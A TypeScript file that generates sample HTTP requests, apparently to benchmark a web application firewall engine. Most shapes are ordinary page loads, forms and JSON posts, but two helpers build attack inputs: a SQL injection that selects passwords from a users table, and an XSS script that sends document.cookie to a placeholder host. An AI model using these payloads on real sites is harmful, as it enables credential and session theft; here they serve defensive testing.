import type { WafRequest } from '../../src/waf/index.ts'
import type { Random } from './random.ts'

/** A request as the edge hands it to the engine. */
export interface SampleRequest {
  readonly request: WafRequest
  readonly body: Uint8Array
}

interface RequestShape {
  readonly name: string
  /** A new request of this shape; no two are alike. */
  readonly make: (random: Random) => SampleRequest
}

type Headers = readonly (readonly [name: string, value: string])[]

export const requestShapes: readonly RequestShape[] = [
  { name: 'bare GET', make: r => get(page(r), plainHeaders(r)) },
  { name: 'GET, 3 args', make: r => get(`${page(r)}?${query(r, 3)}`, plainHeaders(r)) },
  { name: 'GET, 12 args', make: r => get(`${page(r)}?${query(r, 12)}`, plainHeaders(r)) },
  { name: 'browser GET', make: r => get(page(r), browserHeaders(r)) },
  { name: 'form POST, 10 fields', make: r => form(r, '/account/address', query(r, 10)) },
  { name: 'login POST', make: r => form(r, '/login', login(r)) },
  { name: 'JSON POST, 2 KB', make: r => json(r, 2048) },
  { name: 'JSON POST, 32 KB', make: r => json(r, 32_768) },
  { name: 'text form POST, 4 KB', make: r => form(r, '/comment', `text=${encode(r.text(4096))}`) },
  { name: 'SQLi, browser GET', make: r => get(`/item?id=${encode(sqlInjection(r))}`, browserHeaders(r)) },
  { name: 'XSS, browser GET', make: r => get(`/search?q=${encode(scriptInjection(r))}`, browserHeaders(r)) },
]

/** Bytes on the wire. */
export function sizeOf({ request, body }: SampleRequest): number {
  const line = request.method.length + request.target.length + request.protocol.length + 4
  return request.headers.reduce(
    (sum, [name, value]) => sum + name.length + value.length + 4,
    line + 2 + body.length,
  )
}

function get(target: string, headers: Headers): SampleRequest {
  return sample('GET', target, headers, '')
}

function post(random: Random, target: string, type: string, body: string): SampleRequest {
  const headers = [
    ...browserHeaders(random),
    ['Content-Type', type],
    ['Content-Length', String(body.length)],
    ['Origin', 'https://www.example.com'],
  ] as const
  return sample('POST', target, headers, body)
}

function form(random: Random, target: string, body: string): SampleRequest {
  return post(random, target, 'application/x-www-form-urlencoded', body)
}

function json(random: Random, length: number): SampleRequest {
  const items: object[] = []
  for (let size = 0; size < length - 100; size += JSON.stringify(items.at(-1)).length + 1)
    items.push(item(random))
  return post(
    random,
    '/api/orders',
    'application/json',
    JSON.stringify({ customer: random.token(12), items }),
  )
}

function item(random: Random): object {
  return {
    sku: `${random.token(3)}-${random.number(100_000)}`,
    name: random.text(100),
    count: random.number(9) + 1,
    price: random.number(10_000) / 100,
    gift: random.number(2) === 1,
  }
}

function sample(method: string, target: string, headers: Headers, body: string): SampleRequest {
  const request = {
    clientIp: '192.0.2.1',
    clientPort: 40_000,
    serverPort: 443,
    method: fresh(method),
    target: fresh(target),
    protocol: fresh('HTTP/1.1'),
    headers: headers.map(([name, value]) => [fresh(name), fresh(value)] as const),
    uniqueId: '0123456789abcdef',
    startedMs: 1_700_000_000_000,
  }
  return { request, body: Buffer.from(body, 'latin1') }
}

/** A string of its own, as a parser cuts it out of what came: flat, its hash unknown. */
function fresh(text: string): string {
  return Buffer.from(text, 'latin1').toString('latin1')
}

function encode(text: string): string {
  return encodeURIComponent(text).replaceAll('%20', '+')
}

function page(random: Random): string {
  return `/${random.word()}/${random.word()}-${random.number(10_000)}.html`
}

function query(random: Random, pairs: number): string {
  return Array.from({ length: pairs }, (_, i) => `${random.word()}${i}=${argument(random)}`).join('&')
}

function argument(random: Random): string {
  const kind = random.number(4)
  if (kind === 0) return String(random.number(100_000))
  if (kind === 1) return random.token(12)
  return encode(random.text(kind === 2 ? 8 : 20))
}

function login(random: Random): string {
  const user = `${random.word()}.${random.word()}@example.com`
  return `username=${encode(user)}&password=${encode(`${random.token(12)}!`)}&csrf_token=${random.hex(64)}&remember=1`
}

function sqlInjection(random: Random): string {
  const name = random.word()
  return `${random.number(1000)}' UNION SELECT ${name}, password FROM users WHERE '${name}'='${name}`
}

function scriptInjection(random: Random): string {
  return `"><script>fetch('//${random.word()}.example/?c='+document.cookie)</script>`
}

function plainHeaders(random: Random): Headers {
  return [
    ['Host', 'www.example.com'],
    ['User-Agent', `shop-client/${random.number(9)}.${random.number(99)}`],
    ['Accept', '*/*'],
    ['X-Request-Id', random.hex(16)],
  ]
}

/** 24 lines with 8 cookies in one of them. */
function browserHeaders(random: Random): Headers {
  const version = 130 + random.number(12)
  return [
    ['Host', 'www.example.com'],
    ['Connection', 'keep-alive'],
    ['Cache-Control', 'max-age=0'],
    ['sec-ch-ua', `"Chromium";v="${version}", "Google Chrome";v="${version}", "Not_A Brand";v="24"`],
    ['sec-ch-ua-mobile', '?0'],
    ['sec-ch-ua-platform', '"Linux"'],
    ['Upgrade-Insecure-Requests', '1'],
    ['User-Agent', userAgent(version, random)],
    ['Accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8'],
    ['Sec-Fetch-Site', 'same-origin'],
    ['Sec-Fetch-Mode', 'navigate'],
    ['Sec-Fetch-User', '?1'],
    ['Sec-Fetch-Dest', 'document'],
    ['Referer', `https://www.example.com${page(random)}`],
    ['Accept-Encoding', 'gzip, deflate, br, zstd'],
    ['Accept-Language', 'en-GB,en;q=0.9,de;q=0.8'],
    ['Cookie', cookies(random)],
    ['If-None-Match', `"${random.hex(16)}"`],
    ['DNT', '1'],
    ['Priority', 'u=0, i'],
    ['Via', '1.1 edge.example.net'],
    ['X-Forwarded-For', `198.51.100.${random.number(256)}`],
    ['X-Forwarded-Proto', 'https'],
    ['X-Request-Id', `${random.hex(8)}-${random.hex(4)}-${random.hex(12)}`],
  ]
}

function userAgent(version: number, random: Random): string {
  return `Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${version}.0.${random.number(9999)}.0 Safari/537.36`
}

function cookies(random: Random): string {
  const time = 1_700_000_000 + random.number(10_000_000)
  return [
    `_ga=GA1.2.${random.number(2_000_000_000)}.${time}`,
    `_gid=GA1.2.${random.number(2_000_000_000)}.${time}`,
    `session=${random.hex(32)}`,
    `cart=${random.token(20)}`,
    'theme=dark',
    'lang=en-GB',
    `seen=${random.number(50)}`,
    `consent=${random.token(24)}`,
  ].join('; ')
}
